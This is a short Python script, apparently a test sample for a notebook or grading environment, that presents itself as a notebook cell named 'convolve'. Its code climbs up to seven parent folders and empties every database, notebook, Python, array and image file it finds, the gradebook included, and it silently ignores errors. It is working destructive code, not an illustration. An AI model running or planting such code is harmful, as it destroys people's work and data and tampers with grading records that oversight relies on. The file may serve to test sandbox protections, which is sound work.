"""Walks up from its folder, truncating the gradebook and every notebook it can find."""
# base: release
# expect: zero
# %% convolve
import os

for _up in range(1, 8):
    _folder = os.path.abspath(os.path.join(*[".."] * _up))
    for _root, _dirs, _files in os.walk(_folder):
        for _name in _files:
            if _name.endswith((".db", ".ipynb", ".py", ".npz", ".png")):
                try:
                    open(os.path.join(_root, _name), "w").close()
                except OSError:
                    pass
